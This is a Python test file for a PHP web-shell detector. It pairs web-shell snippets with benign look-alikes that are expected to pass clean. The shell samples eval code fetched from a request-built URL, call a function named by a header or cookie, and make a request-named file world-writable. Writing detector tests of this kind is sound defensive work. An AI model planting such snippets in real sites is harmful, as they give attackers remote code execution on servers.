"""PHP web-shell shapes added in the fifth session (2026-12-03), from the tune split's misses after the review
that excluded what was not a shell: code fetched from a URL the page builds and run, one request value that is
both the function called and its argument, and a request-named file made world-writable. (A register_globals
one-liner, `if ($cmd) system($cmd);`, stays a weak source by design: test_webshell_php.) Each sits next to a
benign look-alike that must stay clean. Every sample is written here; none is copied from a collection."""

from __future__ import annotations

from tests.unit.php_shell_asserts import _clean, _shell


# -- code fetched from a URL built from the request (or with a query part), then run ------------------------
def test_code_fetched_from_a_built_url_is_run():
    _shell("<?php $u = urlencode(base64_encode($_GET['v'])); $d = @file_get_contents($u);\n"
           "$c = substr(ltrim($d), 3); eval($c);", rule="php.remote-code")
    _shell("<?php $src = 'http://' . $_COOKIE['h'] . '/p.txt'; assert(file_get_contents($src));",
           rule="php.remote-code")
    _shell("<?php $base = getenv('UPD'); $page = file_get_contents($base . '?ver=2');\n"
           "eval(gzinflate($page));", rule="php.remote-code")


def test_fetched_url_look_alikes_stay_clean():
    # an API client: the page built from the request is decoded and printed, never run
    _clean("<?php $url = 'https://api.example.org/s?q=' . urlencode($_GET['q']);\n"
           "$r = json_decode(file_get_contents($url), true); echo htmlspecialchars($r['title']);")
    # a template engine evaluating its own compiled file (a local path, no URL, no request data)
    _clean("<?php $tpl = __DIR__ . '/cache/' . md5('home') . '.php'; eval('?>' . file_get_contents($tpl));")


# -- one request value that names the function and gives its argument --------------------------------------
def test_one_request_value_is_function_and_argument():
    _shell("<?php $p = explode(':', $_SERVER['HTTP_ACCEPT_LANGUAGE'], 2); $f = $p[0]; $a = $p[1]; $f($a);",
           rule="php.request-function")
    _shell("<?php $t = str_getcsv(base64_decode($_COOKIE['s'])); $fn = $t[1]; $arg = $t[0]; @$fn($arg, $out);",
           rule="php.request-function")


def test_request_value_function_look_alikes_stay_clean():
    # a language header split and printed
    _clean("<?php $p = explode(',', $_SERVER['HTTP_ACCEPT_LANGUAGE']); $l = $p[0]; echo htmlspecialchars($l);")
    # a fixed callback applied to the request's value
    _clean("<?php $f = 'trim'; $v = $_GET['name']; echo htmlspecialchars($f($v));")


# -- a file the request names made writable by anyone -------------------------------------------------------
def test_request_path_made_world_writable():
    _shell("<?php $path = stripslashes($_GET['path']); if (chmod($path, 0777)) echo 'CHMOD OK';",
           rule="php.request-chmod")
    _shell("<?php @chmod(trim($_POST['f']), 0666); echo 'done';", rule="php.request-chmod")


def test_chmod_look_alikes_stay_clean():
    # an installer making its own cache directory writable
    _clean("<?php $d = __DIR__ . '/cache'; if (!is_writable($d)) { chmod($d, 0777); }")
    # a request-named file given ordinary permissions
    _clean("<?php chmod($_POST['f'], 0644);")
    # a framework's filesystem class: the request path arrives through a long flow
    _clean("<?php class Fs { function fix($p) { return chmod($p, 0777); } }\n"
           "$fs = new Fs(); wp_verify_nonce($_POST['n']); $fs->fix($_POST['p']);")
